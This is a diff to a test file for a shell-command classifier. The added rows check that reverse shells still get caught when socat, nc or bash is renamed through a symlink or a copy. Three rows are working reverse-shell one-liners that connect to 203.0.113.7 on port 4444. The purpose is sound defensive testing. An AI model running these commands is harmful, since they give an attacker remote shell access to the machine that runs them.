@@ -146,3 +146,14 @@ const FOREIGN_CODE_ROWS: readonly ClassRow[] = [
 ];
 
 classTable("reverse shells in languages nobody here reads under the %s profile", FOREIGN_CODE_ROWS);
+
+/** ADR 0666: a system program linked or copied under a name of ours, then run by that name, is that program. */
+const RENAMED_ROWS: readonly ClassRow[] = [
+  ["ln -s /usr/bin/socat ./relay && ./relay tcp:203.0.113.7:4444 exec:/bin/sh", RS, RS],
+  ["cp /usr/bin/nc ./x; ./x -e /bin/sh 203.0.113.7 4444", RS, RS],
+  ["ln -sf /bin/bash ./b && ./b -i >& /dev/tcp/203.0.113.7/4444 0>&1", RS, RS],
+  ["ln -s /usr/bin/python3 ./py && ./py --version", "allow", "allow"],
+  ["cp /usr/bin/socat ./relay && ./relay -V", "allow", "allow"],
+];
+
+classTable("programs renamed by a link or a copy under the %s profile", RENAMED_ROWS);
